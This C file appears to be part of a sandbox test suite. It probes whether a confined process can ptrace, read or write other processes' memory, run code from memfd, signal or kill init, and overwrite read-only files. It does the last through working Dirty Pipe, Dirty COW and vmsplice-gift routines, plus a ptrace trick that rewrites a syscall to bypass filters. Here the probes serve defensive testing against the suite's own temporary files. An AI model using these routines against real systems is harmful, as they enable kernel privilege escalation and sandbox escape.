/* 42, 43, 49, 50, 79, 80: other processes, and pages that belong to somebody else. */
#include "attempt.h"

#include <linux/kcmp.h>
#include <pthread.h>
#include <sys/mman.h>
#include <sys/ptrace.h>
#include <sys/uio.h>

static pid_t target(const struct attempt *a)
{
	return a->arg ? atoi(setting("CANARY_PID")) : victim();
}

/* ---- 42 ---- */

static enum outcome try_ptrace(const struct attempt *a)
{
	return judge(ptrace(PTRACE_SEIZE, target(a), NULL, NULL));
}

static enum outcome try_ptrace_child(const struct attempt *a)
{
	int status;
	(void)a;
	pid_t pid = fork();
	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		_exit(0);
	}
	waitpid(pid, &status, 0);
	if (!WIFSTOPPED(status))
		return say(ERROR, "the child did not stop");
	long r = ptrace(PTRACE_CONT, pid, NULL, NULL);
	waitpid(pid, &status, 0);
	return judge(r);
}

/* A tracer may write another number into a stopped call; the filter must look after that. */
static enum outcome try_rewrite_call(const struct attempt *a)
{
#if defined(__x86_64__)
	int status;
	(void)a;
	pid_t pid = fork();
	if (pid == 0) {
		ptrace(PTRACE_TRACEME, 0, NULL, NULL);
		raise(SIGSTOP);
		/* becomes unshare(CLONE_NEWUSER) */
		long r = syscall(SYS_getppid, 0x10000000);
		_exit(r == 0 ? 0 : 1);
	}
	waitpid(pid, &status, 0);
	for (;;) {
		ptrace(PTRACE_SYSCALL, pid, NULL, NULL);
		waitpid(pid, &status, 0);
		if (!WIFSTOPPED(status))
			break;
		long nr = ptrace(PTRACE_PEEKUSER, pid, (void *)(15 * 8), NULL); /* orig_rax */
		if (nr == SYS_getppid)
			ptrace(PTRACE_POKEUSER, pid, (void *)(15 * 8), (void *)(long)SYS_unshare);
	}
	if (WIFEXITED(status) && WEXITSTATUS(status) == 0)
		return say(ESCAPED, "the rewritten call worked");
	return say(BLOCKED, "the rewritten call was refused");
#else
	(void)a;
	return say(BLOCKED, "written for x86-64");
#endif
}

/* ---- 43 ---- */

static enum outcome try_vm(const struct attempt *a)
{
	char byte = 0;
	struct iovec here = {&byte, 1}, there = {(void *)16, 1};
	/* No address is known to exist there: EFAULT means that we were let in to look. */
	if (strcmp(a->text, "write") == 0)
		return judge_reached(process_vm_writev(target(a), &here, 1, &there, 1, 0), EFAULT);
	return judge_reached(process_vm_readv(target(a), &here, 1, &there, 1, 0), EFAULT);
}

static enum outcome try_getfd(const struct attempt *a)
{
	int fd = (int)syscall(SYS_pidfd_open, target(a), 0);
	if (fd < 0)
		return judge(fd);
	return judge(syscall(SYS_pidfd_getfd, fd, 0, 0));
}

static enum outcome try_kcmp(const struct attempt *a)
{
	return judge(syscall(SYS_kcmp, getpid(), target(a), KCMP_FILES, 0, 0));
}

/* ---- 49 ---- */

static char self[256];

/* Runs this program from memory; its child tries what must stay refused. */
static enum outcome try_from_memory(const struct attempt *a)
{
	static char image[4 << 20];
	int in = open(self, O_RDONLY), fd = (int)syscall(SYS_memfd_create, "attempt", 0),
	    status = 0;
	ssize_t size = in < 0 ? -1 : read(in, image, sizeof image);
	char *argv[] = {"attempt", (char *)a->text, NULL}, *envp[] = {NULL};
	if (fd < 0 || size <= 0 || write(fd, image, (size_t)size) != size)
		return say(ERROR, "cannot prepare: %s", strerror(errno));
	pid_t pid = fork();
	if (pid == 0) {
		syscall(SYS_execveat, fd, "", argv, envp, AT_EMPTY_PATH);
		_exit(100);
	}
	waitpid(pid, &status, 0);
	if (!WIFEXITED(status) || WEXITSTATUS(status) == 100)
		return say(BLOCKED, "it did not start");
	return WEXITSTATUS(status) == 0 ? say(ESCAPED, "it started and did it")
					: say(BLOCKED, "it started and was refused");
}

/* ---- 50: regression probes on files of our own; a kernel that is mended leaves them alone ---- */

static int page_fd; /* a second descriptor, to look at it afterwards */

/* A file of a's, and a descriptor that may only read it. */
static int open_read_only_file(void)
{
	static char a[8192];
	char path[] = "/tmp/attemptXXXXXX";
	memset(a, 'a', sizeof a);
	int fd = mkstemp(path);
	if (fd < 0 || write(fd, a, sizeof a) != sizeof a || fchmod(fd, 0444) < 0)
		return -1;
	int read_only = open(path, O_RDONLY);
	page_fd = open(path, O_RDONLY);
	unlink(path);
	/* The control writes through the first one, to show that the test would see it. */
	return is_control ? fd : read_only;
}

static enum outcome look_whether_changed(void)
{
	char bytes[8192];
	ssize_t n = pread(page_fd, bytes, sizeof bytes, 0);
	for (ssize_t i = 0; i < n; i++)
		if (bytes[i] != 'a')
			return say(ESCAPED, "byte %zd of a read-only file was changed", i);
	return n == sizeof bytes ? say(BLOCKED, "the file is as it was")
				 : say(ERROR, "cannot read");
}

/* CVE-2022-0847: a pipe's buffer that once could be merged into, over a page of the file. */
static enum outcome try_dirty_pipe(const struct attempt *a)
{
	int p[2], fd = open_read_only_file();
	char bytes[4096];
	off_t offset = 1;
	(void)a;
	if (fd < 0 || pipe(p) < 0)
		return say(ERROR, "cannot prepare: %s", strerror(errno));
	int size = fcntl(p[1], F_GETPIPE_SZ);
	for (int left = size; left > 0; left -= (int)sizeof bytes)
		if (write(p[1], bytes, sizeof bytes) < 0 || read(p[0], bytes, sizeof bytes) < 0)
			return say(ERROR, "cannot fill the pipe");
	if (splice(fd, &offset, p[1], NULL, 1, 0) != 1 || write(p[1], "XXXX", 4) != 4)
		return say(ERROR, "splice: %s", strerror(errno));
	if (is_control && pwrite(fd, "X", 1, 2) != 1)
		return say(ERROR, "pwrite: %s", strerror(errno));
	return look_whether_changed();
}

static void *discard_copies(void *map)
{
	for (int i = 0; i < 20000; i++)
		madvise(map, 4096, MADV_DONTNEED);
	return NULL;
}

/* CVE-2016-5195: writing through /proc/self/mem while the private copy is thrown away. */
static enum outcome try_dirty_cow(const struct attempt *a)
{
	int fd = open_read_only_file(), memory = open("/proc/self/mem", O_RDWR);
	pthread_t thread;
	(void)a;
	void *map = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED || memory < 0 || pthread_create(&thread, NULL, discard_copies, map))
		return say(ERROR, "cannot prepare: %s", strerror(errno));
	for (int i = 0; i < 20000; i++)
		if (pwrite(memory, "X", 1, (off_t)(uintptr_t)map) < 0)
			break;
	pthread_join(thread, NULL);
	if (is_control && pwrite(fd, "X", 1, 2) != 1)
		return say(ERROR, "pwrite: %s", strerror(errno));
	return look_whether_changed();
}

/* vmsplice with SPLICE_F_GIFT of a file's page, then writing to what comes out of the pipe. */
static enum outcome try_gift(const struct attempt *a)
{
	int p[2], fd = open_read_only_file();
	(void)a;
	void *map = fd < 0 ? MAP_FAILED : mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (map == MAP_FAILED || pipe(p) < 0)
		return say(ERROR, "cannot prepare: %s", strerror(errno));
	struct iovec page = {map, 4096};
	if (vmsplice(p[1], &page, 1, SPLICE_F_GIFT) != 4096 || write(p[1], "XXXX", 4) != 4)
		return say(ERROR, "vmsplice: %s", strerror(errno));
	if (is_control && pwrite(fd, "X", 1, 2) != 1)
		return say(ERROR, "pwrite: %s", strerror(errno));
	return look_whether_changed();
}

/* ---- 79, 80 ---- */

static enum outcome try_kill(const struct attempt *a)
{
	/* The control's canary must live on. */
	return judge(kill(target(a), is_control ? 0 : SIGKILL));
}

/* Every number there may be: one that can be signalled but not seen is not ours. */
static enum outcome try_guess(const struct attempt *a)
{
	pid_t canary = atoi(setting("CANARY_PID"));
	int seen = 0;
	(void)a;
	for (pid_t pid = 1; pid < 70000; pid++) {
		char path[64];
		if (kill(pid, 0) < 0 && errno == ESRCH)
			continue;
		seen++;
		snprintf(path, sizeof path, "/proc/%d", (int)pid);
		if (access(path, F_OK) < 0 && kill(pid, 0) == 0)
			return say(ESCAPED, "process %d can be signalled, and is not in /proc",
				(int)pid);
		if (is_control && pid == canary)
			return say(ESCAPED, "the canary was guessed");
	}
	return say(BLOCKED, "the %d processes that can be guessed are our own", seen);
}

static enum outcome try_pidfd_signal(const struct attempt *a)
{
	int fd = (int)syscall(SYS_pidfd_open, target(a), 0);
	if (fd < 0)
		return judge(fd);
	long r = syscall(SYS_pidfd_send_signal, fd, is_control ? 0 : SIGKILL, NULL, 0);
	/* Root may signal init; the kernel drops the signal, and init lives. */
	if (r == 0 && !is_control && target(a) == 1)
		return kill(1, 0) == 0 || errno == EPERM ? say(BLOCKED, "init took no notice")
							 : say(ESCAPED, "init is dead");
	return judge(r);
}

static enum outcome try_kill_init(const struct attempt *a)
{
	if (is_control)
		return try_kill(a);
	for (int number = 1; number < 65; number++)
		kill(1, number);
	usleep(100000);
	return kill(1, 0) == 0 || errno == EPERM ? say(BLOCKED, "init took no notice")
						 : say(ESCAPED, "init is dead");
}

#define CANARY 1

static const struct attempt attempts[] = {
	{42, "ptrace-init", try_ptrace},
	{42, "ptrace-canary", try_ptrace, .arg = CANARY},
	{42, "may-ptrace-child", try_ptrace_child},
	{42, "rewrite-a-call", try_rewrite_call},
	{43, "read-memory-of-init", try_vm, .text = "read"},
	{43, "write-memory-of-init", try_vm, .text = "write"},
	{43, "read-memory-of-canary", try_vm, .arg = CANARY, .text = "read"},
	{43, "descriptor-of-init", try_getfd},
	{43, "descriptor-of-canary", try_getfd, .arg = CANARY},
	{43, "compare-with-init", try_kcmp},
	{43, "compare-with-canary", try_kcmp, .arg = CANARY},
	{49, "may-run-from-memory", try_from_memory, .text = "nothing"},
	{49, "unshare-from-memory", try_from_memory, .text = "unshare"},
	{50, "dirty-pipe", try_dirty_pipe},
	{50, "dirty-cow", try_dirty_cow},
	{50, "gift-of-a-page", try_gift},
	{79, "kill-canary", try_kill, .arg = CANARY},
	{79, "kill-init", try_kill_init},
	{79, "guess-processes", try_guess},
	{80, "pidfd-of-canary", try_pidfd_signal, .arg = CANARY},
	{80, "pidfd-of-init", try_pidfd_signal},
};

int main(int argc, char **argv)
{
	if (argc == 2 && strcmp(argv[1], "nothing") == 0)
		return 0;
	if (argc == 2 && strcmp(argv[1], "unshare") == 0)
		return syscall(SYS_unshare, 0x10000000) == 0 ? 0 : 1;
	snprintf(self, sizeof self, "%s", argv[0]);
	return attempts_main(argc, argv, attempts, COUNT(attempts));
}
